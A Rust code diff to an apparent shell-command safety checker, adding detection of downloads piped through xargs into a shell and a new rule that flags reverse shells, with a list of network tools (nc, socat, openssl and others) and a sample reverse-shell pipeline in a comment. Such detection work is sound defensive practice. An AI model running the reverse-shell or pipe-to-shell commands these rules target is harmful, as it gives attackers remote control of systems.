@@ -79,6 +79,7 @@ pub(crate) fn run(name: &str, values: &[String], i: usize, cx: &CheckCtx<'_>) ->
         // The whole line is checked once, on its first command.
         "fork-bomb" if i == 0 => fork_bomb(cx.command),
         "fork-bomb" => None,
+        "shell-network-pipeline" => shell_network_pipeline(cmd, i, cx),
         _ => None,
     }
 }
@@ -388,9 +389,14 @@ fn runs_stdin(cmd: &SimpleCommand) -> bool {
 
 fn pipe_to_shell(cmd: &SimpleCommand, i: usize, cx: &CheckCtx<'_>) -> Option<String> {
     let cmds = &cx.analysis.commands;
-    // A: downloader | … | shell reading stdin.
+    // A: downloader | … | shell reading stdin (or xargs running a shell).
     if let Some(pos) = cmd.pipeline {
-        if pos.index > 0 && runs_stdin(cmd) {
+        let xargs_shell = prog(cmd) == "xargs"
+            && cmd.args().iter().any(|w| {
+                let b = w.value.rsplit('/').next().unwrap_or(&w.value);
+                SHELLS.contains(&b) || INTERPRETERS.contains(&b)
+            });
+        if pos.index > 0 && (runs_stdin(cmd) || xargs_shell) {
             let fed = cmds.iter().take(i).any(|c| {
                 c.pipeline
                     .is_some_and(|p| p.id == pos.id && p.index < pos.index)
@@ -635,6 +641,26 @@ fn dynamic_lookup(cmd: &SimpleCommand, values: &[String]) -> Option<String> {
             .iter()
             .any(|w| w.dynamic && !w.value.starts_with('-')))
     .then(|| cmd.raw.clone())
+}
+
+/// Programs that open raw network connections.
+const NET_PIPES: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];
+
+/// A shell reading its commands from stdin in the same pipeline as a raw
+/// network connection (`cat f | sh -i | nc host port > f`): a reverse shell.
+fn shell_network_pipeline(cmd: &SimpleCommand, i: usize, cx: &CheckCtx<'_>) -> Option<String> {
+    let pos = cmd.pipeline?;
+    if !runs_stdin(cmd) {
+        return None;
+    }
+    let _ = (i, pos);
+    // Any pipeline of the line counts: `a | sh -i 2>&1 | nc …` may parse as
+    // nested pipelines.
+    cx.analysis
+        .commands
+        .iter()
+        .any(|c| c.pipeline.is_some() && NET_PIPES.contains(&prog(c)))
+        .then(|| cmd.raw.clone())
 }
 
 /// A function that calls itself twice through a pipe in the background
